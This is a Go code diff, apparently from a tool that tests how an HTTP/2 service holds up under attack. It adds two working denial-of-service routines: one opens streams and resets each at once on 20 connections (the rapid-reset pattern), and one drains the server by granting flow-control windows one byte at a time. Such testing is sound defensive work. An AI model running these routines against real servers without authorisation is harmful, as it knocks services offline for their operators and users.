@@ -83,6 +83,56 @@ func resetRequests(a *attacker) {
 	})
 }
 
+// resetStreams sends requests without a pause on 20 connections and resets each of them at once. It replaces each
+// connection that the service closes.
+func resetStreams(a *attacker) {
+	a.repeat(20, 0, func() {
+		c := a.connectHTTP2(1)
+		if c == nil {
+			return
+		}
+		defer c.conn.Close()
+		go c.read()
+		for c.open(http2Request{method: "GET", path: "/v1/pets"}) == nil {
+			c.write(func(f *http2.Framer) error { return f.WriteRSTStream(c.last, http2.ErrCodeCancel) })
+		}
+		a.failed()
+	})
+}
+
+// byteSizedWindows requests large pages on 5 connections and accepts them byte by byte. It replaces each connection that
+// the service closes.
+func byteSizedWindows(a *attacker) {
+	const streams = 20
+	a.repeat(5, 0, func() {
+		c := a.connectHTTP2(streams, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		if c == nil {
+			return
+		}
+		defer c.conn.Close()
+		closed := make(chan struct{})
+		go func() {
+			defer close(closed)
+			c.read()
+		}()
+		for range streams {
+			if c.open(http2Request{method: "GET", path: reference}) != nil {
+				a.failed()
+				return
+			}
+		}
+		for stream := uint32(1); ; stream = (stream + 2) % (2 * streams) {
+			select {
+			case <-closed:
+				a.failed()
+				return
+			default:
+				c.write(func(f *http2.Framer) error { return f.WriteWindowUpdate(stream, 1) })
+			}
+		}
+	})
+}
+
 // holdStreams opens a connection and keeps the given number of streams open on it until the service closes the
 // connection or the attack ends. It replaces each stream that the service ends.
 func (a *attacker) holdStreams(streams int, r http2Request) {
